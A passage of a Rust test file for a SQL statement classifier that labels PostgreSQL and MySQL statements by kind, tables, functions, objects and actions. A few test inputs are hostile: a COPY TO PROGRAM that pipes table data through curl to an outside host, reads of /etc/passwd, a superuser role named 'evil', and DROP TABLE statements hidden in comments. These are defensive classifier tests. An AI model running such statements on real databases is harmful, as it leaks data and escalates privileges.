use super::*;
use Dialect::{Mysql as My, Postgres as Pg};

/// Expected classification of one statement: kinds, tables, functions,
/// has_where ("-" = None, "t"/"f").
type Want = (&'static str, &'static str, &'static str, &'static str);

fn kinds(s: &str) -> Vec<StatementKind> {
    s.split(',')
        .filter(|x| !x.is_empty())
        .map(|x| x.parse().unwrap())
        .collect()
}

fn names(s: &str) -> Vec<String> {
    s.split(',')
        .filter(|x| !x.is_empty())
        .map(str::to_owned)
        .collect()
}

fn check(d: Dialect, sql: &str, want: &[Want]) -> Result<(), String> {
    let got = classify(sql, d).map_err(|e| format!("{d:?} {sql:?}: unexpected error {e}"))?;
    if got.len() != want.len() {
        return Err(format!(
            "{d:?} {sql:?}: want {} statements, got {got:#?}",
            want.len()
        ));
    }
    for (g, (k, t, f, w)) in got.iter().zip(want) {
        let hw = match *w {
            "t" => Some(true),
            "f" => Some(false),
            _ => None,
        };
        if g.kinds != kinds(k)
            || g.tables != names(t)
            || g.functions != names(f)
            || g.has_where != hw
        {
            return Err(format!(
                "{d:?} {sql:?}\n  want kinds={k} tables={t} functions={f} has_where={w}\n  got  {g:?}"
            ));
        }
    }
    Ok(())
}

#[test]
fn postgres_statements() {
    let cases: &[(&str, &[Want])] = &[
        // pgbench (TPC-B like), with bind parameters.
        (
            "UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2;",
            &[("update", "pgbench_accounts", "", "t")],
        ),
        (
            "SELECT abalance FROM pgbench_accounts WHERE aid = $1",
            &[("select", "pgbench_accounts", "", "-")],
        ),
        (
            "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES ($1, $2, $3, $4, CURRENT_TIMESTAMP)",
            &[("insert", "pgbench_history", "CURRENT_TIMESTAMP", "-")],
        ),
        ("END;", &[("commit", "", "", "-")]),
        // pgbench initialisation.
        (
            "drop table if exists pgbench_accounts, pgbench_branches, pgbench_history, pgbench_tellers",
            &[(
                "drop",
                "pgbench_accounts,pgbench_branches,pgbench_history,pgbench_tellers",
                "",
                "-",
            )],
        ),
        (
            "create table pgbench_history(tid int,bid int,aid    int,delta int,mtime timestamp,filler char(22))",
            &[("create", "pgbench_history", "", "-")],
        ),
        (
            "truncate table pgbench_accounts, pgbench_branches, pgbench_history, pgbench_tellers",
            &[(
                "truncate",
                "pgbench_accounts,pgbench_branches,pgbench_history,pgbench_tellers",
                "",
                "-",
            )],
        ),
        (
            "copy pgbench_accounts from stdin with (freeze on)",
            &[("copy", "pgbench_accounts", "", "-")],
        ),
        (
            "vacuum analyze pgbench_branches",
            &[("vacuum,analyze", "pgbench_branches", "", "-")],
        ),
        (
            "VACUUM (VERBOSE, ANALYZE) t1, public.t2 (a, b)",
            &[("vacuum,analyze", "t1,public.t2", "", "-")],
        ),
        ("VACUUM", &[("vacuum", "", "", "-")]),
        (
            "alter table pgbench_branches add primary key (bid)",
            &[("alter", "pgbench_branches", "", "-")],
        ),
        // psql \d and \dt catalog queries.
        (
            "SELECT c.oid,\n  n.nspname,\n  c.relname\nFROM pg_catalog.pg_class c\n     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace\nWHERE c.relname OPERATOR(pg_catalog.~) '^(users)$' COLLATE pg_catalog.default\n  AND pg_catalog.pg_table_is_visible(c.oid)\nORDER BY 2, 3;",
            &[(
                "select",
                "pg_catalog.pg_class,pg_catalog.pg_namespace",
                "pg_catalog.pg_table_is_visible",
                "-",
            )],
        ),
        (
            "SELECT n.nspname as \"Schema\",\n  c.relname as \"Name\",\n  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as \"Type\",\n  pg_catalog.pg_get_userbyid(c.relowner) as \"Owner\"\nFROM pg_catalog.pg_class c\n     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace\n     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam\nWHERE c.relkind IN ('r','p','')\n      AND n.nspname <> 'pg_catalog'\n      AND n.nspname !~ '^pg_toast'\n      AND n.nspname <> 'information_schema'\n  AND pg_catalog.pg_table_is_visible(c.oid)\nORDER BY 1,2;",
            &[(
                "select",
                "pg_catalog.pg_class,pg_catalog.pg_namespace,pg_catalog.pg_am",
                "pg_catalog.pg_get_userbyid,pg_catalog.pg_table_is_visible",
                "-",
            )],
        ),
        (
            "SELECT a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod) FROM pg_catalog.pg_attribute a WHERE a.attrelid = '16384' AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum",
            &[(
                "select",
                "pg_catalog.pg_attribute",
                "pg_catalog.format_type",
                "-",
            )],
        ),
        // Transactions split into statements.
        (
            "BEGIN; UPDATE accounts SET balance = 0; COMMIT;",
            &[
                ("begin", "", "", "-"),
                ("update", "accounts", "", "f"),
                ("commit", "", "", "-"),
            ],
        ),
        (
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE; ROLLBACK",
            &[("begin", "", "", "-"), ("rollback", "", "", "-")],
        ),
        (
            "SAVEPOINT s; RELEASE SAVEPOINT s; ROLLBACK TO SAVEPOINT s",
            &[
                ("savepoint", "", "", "-"),
                ("release", "", "", "-"),
                ("rollback", "", "", "-"),
            ],
        ),
        // CTEs.
        (
            "WITH d AS (DELETE FROM t WHERE a < 5 RETURNING *) SELECT * FROM d",
            &[("select,delete", "t,d", "", "t")],
        ),
        (
            "WITH d AS (DELETE FROM t RETURNING *) INSERT INTO archive SELECT * FROM d",
            &[("insert,delete", "t,archive,d", "", "f")],
        ),
        (
            "WITH x AS (SELECT 1) DELETE FROM t",
            &[("delete", "t", "", "f")],
        ),
        (
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT sum(n) FROM r",
            &[("select", "r", "sum", "-")],
        ),
        // Functions anywhere.
        (
            "SELECT pg_read_file('/etc/passwd')",
            &[("select", "", "pg_read_file", "-")],
        ),
        (
            "SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE lower(x) = 'y')",
            &[("select", "t,u", "lower", "-")],
        ),
        (
            "SELECT * FROM generate_series(1, 10) g, pg_ls_dir('.') d",
            &[("select", "", "generate_series,pg_ls_dir", "-")],
        ),
        (
            "SELECT set_config('search_path', 'evil', false)",
            &[("select", "", "set_config", "-")],
        ),
        (
            "UPDATE t SET a = upper(b) WHERE c = now()",
            &[("update", "t", "upper,now", "t")],
        ),
        (
            "INSERT INTO t SELECT * FROM u JOIN v USING (id)",
            &[("insert", "t,u,v", "", "-")],
        ),
        (
            "SELECT * FROM a WHERE EXISTS (SELECT 1 FROM b WHERE b.id = a.id)",
            &[("select", "a,b", "", "-")],
        ),
        (
            "SELECT * INTO newt FROM t",
            &[("select,create", "newt,t", "", "-")],
        ),
        (
            "CREATE TABLE x AS SELECT * FROM y",
            &[("create", "x,y", "", "-")],
        ),
        // COPY.
        (
            "COPY (SELECT * FROM users) TO STDOUT WITH CSV HEADER",
            &[("copy", "users", "", "-")],
        ),
        (
            "COPY public.users (id, email) TO STDOUT",
            &[("copy", "public.users", "", "-")],
        ),
        (
            "COPY t TO PROGRAM 'curl -d @- https://example.com'",
            &[("copy", "t", "", "-")],
        ),
        // Text after COPY ... FROM STDIN; is SQL over the wire, not data.
        (
            "COPY t FROM STDIN;\nDROP TABLE users;",
            &[("copy", "t", "", "-"), ("drop", "users", "", "-")],
        ),
        (
            "COPY t FROM STDIN; SELECT 1;\nDELETE FROM x",
            &[
                ("copy", "t", "", "-"),
                ("select", "", "", "-"),
                ("delete", "x", "", "f"),
            ],
        ),
        // DO blocks (body not inspected).
        (
            "DO $$ BEGIN RAISE NOTICE 'x'; END $$",
            &[("do", "", "", "-")],
        ),
        (
            "DO LANGUAGE plpgsql $body$ BEGIN DELETE FROM x; END $body$;",
            &[("do", "", "", "-")],
        ),
        (
            "do 'begin perform 1; end' language plpgsql",
            &[("do", "", "", "-")],
        ),
        // EXPLAIN / PREPARE.
        (
            "EXPLAIN ANALYZE DELETE FROM t",
            &[("explain,delete", "t", "", "f")],
        ),
        ("EXPLAIN DELETE FROM t", &[("explain", "t", "", "-")]),
        (
            "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE b = 2",
            &[("explain,update", "t", "", "t")],
        ),
        (
            "EXPLAIN (ANALYZE false) DELETE FROM t",
            &[("explain", "t", "", "-")],
        ),
        (
            "EXPLAIN (COSTS off) DELETE FROM t",
            &[("explain", "t", "", "-")],
        ),
        (
            "PREPARE p (int) AS DELETE FROM t WHERE id = $1",
            &[("prepare,delete", "t", "", "t")],
        ),
        ("EXECUTE p(1)", &[("execute", "", "", "-")]),
        ("DEALLOCATE ALL", &[("deallocate", "", "", "-")]),
        // Session and utility statements.
        ("SET search_path = public", &[("set", "", "", "-")]),
        ("SET ROLE postgres", &[("set", "", "", "-")]),
        (
            "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
            &[("set", "", "", "-")],
        ),
        ("ABORT", &[("rollback", "", "", "-")]),
        ("VALUES (1), (2)", &[("select", "", "", "-")]),
        (
            "ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO bob",
            &[("grant", "", "", "-")],
        ),
        ("SHOW search_path", &[("show", "", "", "-")]),
        ("RESET ALL", &[("reset", "", "", "-")]),
        ("DISCARD ALL", &[("discard", "", "", "-")]),
        (
            "LISTEN ch; NOTIFY ch, 'x'; UNLISTEN ch",
            &[
                ("listen", "", "", "-"),
                ("notify", "", "", "-"),
                ("unlisten", "", "", "-"),
            ],
        ),
        (
            "LOCK TABLE t IN ACCESS EXCLUSIVE MODE",
            &[("lock", "t", "", "-")],
        ),
        ("CALL proc(1)", &[("call", "", "proc", "-")]),
        ("COMMENT ON TABLE t IS 'x'", &[("comment", "t", "", "-")]),
        ("GRANT SELECT ON t TO bob", &[("grant", "t", "", "-")]),
        ("GRANT admin TO bob", &[("grant", "", "", "-")]),
        ("REVOKE ALL ON t FROM bob", &[("revoke", "t", "", "-")]),
        ("ANALYZE t", &[("analyze", "t", "", "-")]),
        (
            "REFRESH MATERIALIZED VIEW mv",
            &[("refresh", "mv", "", "-")],
        ),
        (
            "DECLARE c CURSOR FOR SELECT * FROM t; FETCH 10 FROM c; CLOSE c",
            &[
                ("declare", "t", "", "-"),
                ("fetch", "", "", "-"),
                ("close", "", "", "-"),
            ],
        ),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v",
            &[("merge", "t,s", "", "-")],
        ),
        (
            "CREATE INDEX CONCURRENTLY i ON t (c)",
            &[("create", "t", "", "-")],
        ),
        ("CREATE ROLE evil SUPERUSER", &[("create", "", "", "-")]),
        ("ALTER ROLE ci WITH PASSWORD 'x'", &[("alter", "", "", "-")]),
        ("DROP SCHEMA public CASCADE", &[("drop", "", "", "-")]),
        ("DROP VIEW v", &[("drop", "v", "", "-")]),
        (
            "CREATE EXTENSION IF NOT EXISTS dblink",
            &[("create", "", "", "-")],
        ),
        // Strings, comments and quoted identifiers never split.
        (
            "SELECT 'a;b'; SELECT $$;$$",
            &[("select", "", "", "-"), ("select", "", "", "-")],
        ),
        ("SELECT 1 -- ; DROP TABLE x\n", &[("select", "", "", "-")]),
        (
            "/* ; */ SELECT \"we;ird\" FROM \"My Table\"",
            &[("select", "My Table", "", "-")],
        ),
        ("SELECT E'it\\'s;'", &[("select", "", "", "-")]),
        (";;SELECT 1;;", &[("select", "", "", "-")]),
    ];
    let failures: Vec<String> = cases
        .iter()
        .filter_map(|(s, w)| check(Pg, s, w).err())
        .collect();
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n\n")
    );
}

#[test]
fn mysql_statements() {
    let cases: &[(&str, &[Want])] = &[
        // What the mysql client sends on connect.
        (
            "select @@version_comment limit 1",
            &[("select", "", "", "-")],
        ),
        (
            "SELECT DATABASE(), USER() LIMIT 1",
            &[("select", "", "DATABASE,USER", "-")],
        ),
        ("SHOW TABLES", &[("show", "", "", "-")]),
        ("SHOW DATABASES", &[("show", "", "", "-")]),
        ("SHOW FULL PROCESSLIST", &[("show", "", "", "-")]),
        ("SHOW VARIABLES LIKE 'version%'", &[("show", "", "", "-")]),
        ("SHOW CREATE TABLE t", &[("show", "t", "", "-")]),
        ("USE db", &[("use", "", "", "-")]),
        ("SET NAMES utf8mb4", &[("set", "", "", "-")]),
        ("SET autocommit=0", &[("set", "", "", "-")]),
        ("DESCRIBE t", &[("describe", "t", "", "-")]),
        ("EXPLAIN t", &[("describe", "t", "", "-")]),
        // Backtick identifiers.
        (
            "SELECT * FROM `my db`.`t` WHERE `x` = \"str\"",
            &[("select", "my db.t", "", "-")],
        ),
        (
            "UPDATE `users` SET `name` = 'x' WHERE `id` = 1",
            &[("update", "users", "", "t")],
        ),
        // DML.
        ("REPLACE INTO t VALUES (1)", &[("insert", "t", "", "-")]),
        (
            "INSERT INTO t (a) VALUES (1) ON DUPLICATE KEY UPDATE a = 2",
            &[("insert", "t", "", "-")],
        ),
        ("DELETE FROM t LIMIT 10", &[("delete", "t", "", "f")]),
        (
            "DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id WHERE t2.x = 1",
            &[("delete", "t1,t2", "", "t")],
        ),
        (
            "UPDATE t1 JOIN t2 ON t1.id = t2.id SET t1.a = t2.b",
            &[("update", "t1,t2", "", "f")],
        ),
        ("SELECT SLEEP(5)", &[("select", "", "SLEEP", "-")]),
        (
            "SELECT LOAD_FILE('/etc/passwd')",
            &[("select", "", "LOAD_FILE", "-")],
        ),
        // Transactions and locks.
        (
            "START TRANSACTION; UPDATE t SET a = 1 WHERE id = 2; COMMIT",
            &[
                ("begin", "", "", "-"),
                ("update", "t", "", "t"),
                ("commit", "", "", "-"),
            ],
        ),
        (
            "LOCK TABLES t WRITE; UNLOCK TABLES",
            &[("lock", "t", "", "-"), ("unlock", "", "", "-")],
        ),
        // DDL and admin.
        (
            "CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT) ENGINE=InnoDB",
            &[("create", "t", "", "-")],
        ),
        ("DROP TABLE IF EXISTS `t`", &[("drop", "t", "", "-")]),
        ("TRUNCATE TABLE t", &[("truncate", "t", "", "-")]),
        ("RENAME TABLE a TO b", &[("alter", "a,b", "", "-")]),
        ("ALTER TABLE t ADD COLUMN c INT", &[("alter", "t", "", "-")]),
        (
            "GRANT ALL ON db.* TO 'u'@'%'",
            &[("grant", "db.*", "", "-")],
        ),
        ("KILL 5", &[("kill", "", "", "-")]),
        ("FLUSH PRIVILEGES", &[("flush", "", "", "-")]),
        ("CALL p()", &[("call", "", "p", "-")]),
        ("EXPLAIN SELECT 1", &[("explain", "", "", "-")]),
        // Comments.
        (
            "SELECT 1 # comment ; DROP TABLE x",
            &[("select", "", "", "-")],
        ),
        (
            "SELECT 1 -- c\n; SELECT 2",
            &[("select", "", "", "-"), ("select", "", "", "-")],
        ),
    ];
    let failures: Vec<String> = cases
        .iter()
        .filter_map(|(s, w)| check(My, s, w).err())
        .collect();
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n\n")
    );
}

#[test]
fn statement_text_is_the_original_slice() {
    let sql = "  BEGIN ;\n  UPDATE t SET a = 'x;y' -- note\n WHERE id = 1;\n\n/* c */ COMMIT  ";
    let got = classify(sql, Pg).unwrap();
    let texts: Vec<&str> = got.iter().map(|s| s.text.as_str()).collect();
    assert_eq!(
        texts,
        [
            "BEGIN",
            "UPDATE t SET a = 'x;y' -- note\n WHERE id = 1",
            "/* c */ COMMIT"
        ]
    );
    // Non-ASCII text before a delimiter keeps byte offsets right.
    let got = classify("SELECT 'é€😀'; SELECT 2", Pg).unwrap();
    assert_eq!(got[0].text, "SELECT 'é€😀'");
    assert_eq!(got[1].text, "SELECT 2");
    assert_eq!(got[1].kind(), StatementKind::Select);
}

#[test]
fn empty_inputs() {
    for d in [Pg, My] {
        for s in [
            "",
            "   ",
            "\n\t",
            ";",
            " ; ; ",
            "-- only a comment",
            "/* block */",
            "-- a\n/* b */ ;",
        ] {
            assert_eq!(classify(s, d), Ok(vec![]), "{d:?} {s:?}");
        }
    }
}

#[test]
fn errors_fail_the_whole_string() {
    let cases: &[(Dialect, &str)] = &[
        (Pg, "SELEC 1"),
        (Pg, "SELECT 1; SELEC 2; DROP TABLE users"),
        (Pg, "DROP TABLE users; FROBNICATE"),
        (Pg, "SELECT 1 END"),
        (Pg, "SELECT 'unterminated"),
        (Pg, "SELECT 1 /* unterminated"),
        (Pg, "CHECKPOINT"),
        (Pg, "DO $$ x $$ garbage"),
        (Pg, "COPY (SELEC 1) TO STDOUT"),
        (Pg, "VACUUM (VERBOSE t"),
        // MySQL file statements sqlparser does not parse.
        (My, "SELECT * FROM t INTO OUTFILE '/tmp/x'"),
        (My, "SELECT * INTO DUMPFILE '/tmp/x' FROM t"),
        (My, "LOAD DATA INFILE '/tmp/x' INTO TABLE t"),
        (My, "LOAD DATA LOCAL INFILE '/tmp/x' INTO TABLE t"),
        (My, "LOAD XML LOCAL INFILE '/tmp/x' INTO TABLE t"),
        (My, "PREPARE s FROM 'DROP TABLE t'"),
        (
            My,
            "CREATE EVENT e ON SCHEDULE EVERY 1 HOUR DO DELETE FROM t",
        ),
        // PostgreSQL ALTER SYSTEM with anything but plain values.
        (Pg, "ALTER SYSTEM SET work_mem = (SELECT 1)"),
        (Pg, "ALTER SYSTEM SET work_mem"),
        (Pg, "ALTER SYSTEM RESET a b"),
        (Pg, "ALTER SYSTEM SET a = 1 2"),
        (Pg, "ALTER SYSTEMS SET a = 1"),
        (Pg, "CREATE PUBLICATION p FOR ALL TABLES"),
        (Pg, "MOVE NEXT FROM c"),
        (Pg, "REINDEX TABLE t"),
        (Pg, "TABLE users"),
        // A statement hidden in a versioned comment with a delimiter.
        (My, "SELECT 1 /*! ; DROP TABLE x */"),
        (My, "SELECT 1; DELETE"),
    ];
    for (d, s) in cases {
        assert!(
            classify(s, *d).is_err(),
            "{d:?} {s:?} should fail: {:?}",
            classify(s, *d)
        );
    }
    match classify("SELECT 1; SELEC 2", Pg) {
        Err(SqlError::Parse { index, message }) => {
            assert_eq!(index, 2);
            assert!(message.contains("SELEC"), "{message}");
        }
        other => panic!("{other:?}"),
    }
    assert!(matches!(
        classify("SELECT 'x", Pg),
        Err(SqlError::Tokenize(_))
    ));
}

#[test]
fn shapes() {
    let cases: &[(Dialect, &str, &str)] = &[
        (
            Pg,
            "SELECT * FROM t WHERE a = 1 AND b = 'x'  ;",
            "select * from t where a = ? and b = ?",
        ),
        (
            Pg,
            "select  $1, 'x' -- c\n from \"T\"",
            "select ?, ? from \"T\"",
        ),
        (
            Pg,
            "UPDATE pgbench_accounts SET abalance = abalance + 42 WHERE aid = 7",
            "update pgbench_accounts set abalance = abalance + ? where aid = ?",
        ),
        (
            Pg,
            "update PGBENCH_ACCOUNTS  set abalance=abalance+1 where aid=9;",
            "update PGBENCH_ACCOUNTS set abalance=abalance+? where aid=?",
        ),
        (Pg, "SELECT $$body$$, E'x', -3.5e2", "select ?, ?, -?"),
        (Pg, "BEGIN; SELECT 1; COMMIT;", "begin; select ?; commit"),
        (
            My,
            "SELECT * FROM `t` WHERE name = \"bob\" LIMIT 10",
            "select * from `t` where name = ? limit ?",
        ),
        (My, "select ? , ?", "select ? , ?"),
        // Tokenizer errors fall back to collapsed whitespace.
        (Pg, "SELECT  'unterminated\n  x", "SELECT 'unterminated x"),
        (Pg, "", ""),
    ];
    for (d, s, want) in cases {
        assert_eq!(shape(s, *d), *want, "{d:?} {s:?}");
    }
    // Same shape for different literals.
    assert_eq!(
        shape("SELECT * FROM t WHERE id = 1", Pg),
        shape("select *  from t where id = 99", Pg)
    );
}

#[test]
fn kind_names() {
    for k in StatementKind::ALL {
        assert_eq!(k.as_str().parse::<StatementKind>(), Ok(*k));
        assert_eq!(k.to_string(), k.as_str());
        assert_eq!(
            serde_json::to_string(k).unwrap(),
            format!("\"{}\"", k.as_str())
        );
    }
    let e = "dorp".parse::<StatementKind>().unwrap_err();
    assert!(
        e.starts_with("unknown statement kind \"dorp\" (expected one of: select, insert,"),
        "{e}"
    );
}

/// Expected facts of one statement: kinds, objects, actions, literal code.
type Facts = (
    Dialect,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    bool,
);

fn list<T: std::str::FromStr>(s: &str) -> Vec<T>
where
    T::Err: std::fmt::Debug,
{
    s.split(',')
        .filter(|x| !x.is_empty())
        .map(|x| x.parse().unwrap())
        .collect()
}

fn check_facts(cases: &[Facts]) {
    let mut failures = Vec::new();
    for (d, sql, k, o, a, code) in cases {
        let got = match classify(sql, *d) {
            Ok(v) if v.len() == 1 => v.into_iter().next().unwrap(),
            other => {
                failures.push(format!("{d:?} {sql:?}: {other:?}"));
                continue;
            }
        };
        if got.kinds != list::<StatementKind>(k)
            || got.objects != list::<ObjectKind>(o)
            || got.actions != list::<Action>(a)
            || got.literal_code != *code
            || got.literal_code() != *code
        {
            failures.push(format!(
                "{d:?} {sql:?}\n  want kinds={k} objects={o} actions={a} literal_code={code}\n  got  kinds={:?} objects={:?} actions={:?} literal_code={}",
                got.kinds, got.objects, got.actions, got.literal_code
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n\n")
    );
}

#[test]
fn object_kinds() {
    #[rustfmt::skip]
    const CASES: &[Facts] = &[
        // Tables.
        (Pg, "CREATE TABLE t (a int)", "create", "table", "", false),
        (Pg, "CREATE TEMP TABLE t AS SELECT 1", "create", "table", "", false),
        (Pg, "SELECT * INTO t2 FROM t", "select,create", "table", "", false),
        (Pg, "DROP TABLE IF EXISTS a, b", "drop", "table", "", false),
        (Pg, "TRUNCATE t", "truncate", "table", "", false),
        (Pg, "COMMENT ON TABLE t IS 'x'", "comment", "table", "", false),
        (Pg, "GRANT SELECT ON t TO bob", "grant", "table", "", false),
        (Pg, "GRANT SELECT ON ALL TABLES IN SCHEMA public TO bob", "grant", "table", "", false),
        (Pg, "REVOKE ALL ON t FROM bob", "revoke", "table", "", false),
        (My, "CREATE TABLE t2 LIKE t", "create", "table", "", false),
        (My, "RENAME TABLE a TO b", "alter", "table", "rename", false),
        (My, "GRANT SELECT ON db.t TO 'u'@'%'", "grant", "table", "", false),
        (My, "GRANT ALL ON db.* TO 'u'@'%'", "grant", "table,database,schema", "", false),
        (My, "GRANT ALL PRIVILEGES ON *.* TO 'u'@'%' WITH GRANT OPTION", "grant", "table,database,schema", "", false),
        // Views.
        (Pg, "CREATE VIEW v AS SELECT * FROM t", "create", "view", "", false),
        (Pg, "ALTER VIEW v RENAME TO w", "alter", "view", "rename", false),
        (Pg, "DROP VIEW v", "drop", "view", "", false),
        (Pg, "COMMENT ON VIEW v IS 'x'", "comment", "view", "", false),
        (Pg, "CREATE MATERIALIZED VIEW mv AS SELECT 1", "create", "materialized_view", "", false),
        (Pg, "ALTER MATERIALIZED VIEW mv RENAME TO m", "alter", "materialized_view", "rename", false),
        (Pg, "DROP MATERIALIZED VIEW mv", "drop", "materialized_view", "", false),
        (Pg, "REFRESH MATERIALIZED VIEW mv", "refresh", "materialized_view", "", false),
        (My, "CREATE VIEW v AS SELECT 1", "create", "view", "", false),
        // Indexes, sequences, types, domains.
        (Pg, "CREATE INDEX i ON t (a)", "create", "index", "", false),
        (Pg, "ALTER INDEX i RENAME TO j", "alter", "index", "rename", false),
        (Pg, "DROP INDEX i", "drop", "index", "", false),
        (My, "DROP INDEX i ON t", "drop", "index", "", false),
        (Pg, "CREATE SEQUENCE s", "create", "sequence", "", false),
        (Pg, "DROP SEQUENCE s", "drop", "sequence", "", false),
        (Pg, "GRANT USAGE ON SEQUENCE s TO bob", "grant", "sequence", "", false),
        (Pg, "CREATE TYPE ty AS (a int)", "create", "type", "", false),
        (Pg, "ALTER TYPE ty RENAME TO t2", "alter", "type", "rename", false),
        (Pg, "DROP TYPE ty", "drop", "type", "", false),
        (Pg, "CREATE DOMAIN d AS int", "create", "domain", "", false),
        (Pg, "DROP DOMAIN d", "drop", "domain", "", false),
        // Roles, users, groups.
        (Pg, "CREATE ROLE evil SUPERUSER", "create", "role", "", false),
        (Pg, "CREATE GROUP g", "create", "role", "", false),
        (Pg, "CREATE ROLE r LOGIN PASSWORD 'x'", "create", "role", "set_password", false),
        (Pg, "CREATE ROLE r IN ROLE admin", "create", "role", "grant_role", false),
        (Pg, "CREATE ROLE r BYPASSRLS", "create", "role", "disable_row_security", false),
        (Pg, "ALTER ROLE ci WITH PASSWORD 'x'", "alter", "role", "set_password", false),
        (Pg, "ALTER USER bob WITH SUPERUSER", "alter", "role", "", false),
        (Pg, "ALTER ROLE r RENAME TO q", "alter", "role", "rename", false),
        (Pg, "ALTER ROLE r BYPASSRLS", "alter", "role", "disable_row_security", false),
        (Pg, "DROP ROLE bob", "drop", "role", "", false),
        (Pg, "DROP USER bob", "drop", "role", "", false),
        (Pg, "DROP GROUP g", "drop", "role", "", false),
        (Pg, "GRANT admin TO bob", "grant", "role", "grant_role", false),
        (Pg, "REVOKE admin FROM bob", "revoke", "role", "revoke_role", false),
        (Pg, "COMMENT ON ROLE r IS 'x'", "comment", "role", "", false),
        (My, "CREATE USER bob", "create", "role", "", false),
        (My, "CREATE ROLE r", "create", "role", "", false),
        (My, "DROP ROLE r", "drop", "role", "", false),
        (My, "GRANT r TO 'bob'@'%'", "grant", "role", "grant_role", false),
        (My, "REVOKE r FROM bob", "revoke", "role", "revoke_role", false),
        // Databases and schemas (synonyms on MySQL).
        (Pg, "CREATE DATABASE d", "create", "database", "", false),
        (Pg, "DROP DATABASE d", "drop", "database", "", false),
        (Pg, "GRANT CONNECT ON DATABASE d TO bob", "grant", "database", "", false),
        (Pg, "CREATE SCHEMA s", "create", "schema", "", false),
        (Pg, "DROP SCHEMA public CASCADE", "drop", "schema", "", false),
        (Pg, "GRANT USAGE ON SCHEMA s TO bob", "grant", "schema", "", false),
        (Pg, "COMMENT ON SCHEMA s IS 'x'", "comment", "schema", "", false),
        (My, "CREATE DATABASE d", "create", "database,schema", "", false),
        (My, "DROP SCHEMA d", "drop", "database,schema", "", false),
        // Routines.
        (Pg, "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", "create", "function", "", true),
        (Pg, "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'select 1'", "create", "function", "security_definer", true),
        (Pg, "ALTER FUNCTION f() SECURITY DEFINER", "alter", "function", "security_definer", false),
        (Pg, "ALTER FUNCTION f() OWNER TO bob", "alter", "function", "change_owner", false),
        (Pg, "ALTER FUNCTION f() RENAME TO g", "alter", "function", "rename", false),
        (Pg, "DROP FUNCTION f", "drop", "function", "", false),
        (Pg, "GRANT EXECUTE ON FUNCTION f() TO bob", "grant", "function", "", false),
        (Pg, "CREATE FUNCTION f() RETURNS int LANGUAGE sql RETURN 1", "create", "function", "", true),
        (Pg, "CREATE FUNCTION f() RETURNS int SET search_path = pg_catalog LANGUAGE sql AS 'select 1'", "create", "function", "set_parameter", true),
        (Pg, "CREATE FUNCTION f() RETURNS int SET role = admin LANGUAGE sql AS 'select 1'", "create", "function", "set_parameter,set_role", true),
        (Pg, "ALTER FUNCTION f() SET role = admin", "alter", "function", "set_parameter,set_role", false),
        (Pg, "DROP PROCEDURE p", "drop", "procedure", "", false),
        (My, "DROP PROCEDURE p", "drop", "procedure", "", false),
        (My, "DROP FUNCTION f", "drop", "function", "", false),
        (Pg, "CREATE AGGREGATE a (int) (sfunc = f, stype = int)", "create", "aggregate", "", false),
        (Pg, "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", "create", "trigger", "", false),
        (Pg, "DROP TRIGGER tr ON t", "drop", "trigger", "", false),
        (My, "DROP TRIGGER tr", "drop", "trigger", "", false),
        (Pg, "CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", "create", "rule", "", false),
        (Pg, "DROP RULE r ON t", "drop", "rule", "", false),
        // Extensions, policies, foreign data, collations.
        (Pg, "CREATE EXTENSION IF NOT EXISTS dblink", "create", "extension", "", false),
        (Pg, "DROP EXTENSION dblink", "drop", "extension", "", false),
        (Pg, "CREATE POLICY p ON t USING (true)", "create", "policy", "", false),
        (Pg, "DROP POLICY p ON t", "drop", "policy", "", false),
        (Pg, "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", "create", "server", "", false),
        (Pg, "CREATE FOREIGN TABLE ft (a int) SERVER s", "create", "foreign_table", "", false),
        (Pg, "CREATE FOREIGN DATA WRAPPER w", "create", "foreign_data_wrapper", "", false),
        (Pg, "CREATE USER MAPPING FOR bob SERVER s", "create", "user_mapping", "", false),
        (Pg, "CREATE COLLATION c (locale = 'x')", "create", "collation", "", false),
        (Pg, "CREATE TEXT SEARCH CONFIGURATION c (copy = english)", "create", "text_search", "", false),
        (Pg, "COMMENT ON COLUMN t.c IS 'x'", "comment", "column", "", false),
        (Pg, "ALTER FOREIGN TABLE ft RENAME TO g", "alter", "foreign_table", "rename", false),
        (Pg, "DROP FOREIGN TABLE ft", "drop", "foreign_table", "", false),
        (Pg, "CREATE OPERATOR FAMILY f USING btree", "create", "operator", "", false),
        (Pg, "CREATE OPERATOR CLASS c FOR TYPE int USING btree AS OPERATOR 1 <", "create", "operator", "", false),
        (Pg, "ALTER OPERATOR FAMILY f USING btree RENAME TO g", "alter", "operator", "rename", false),
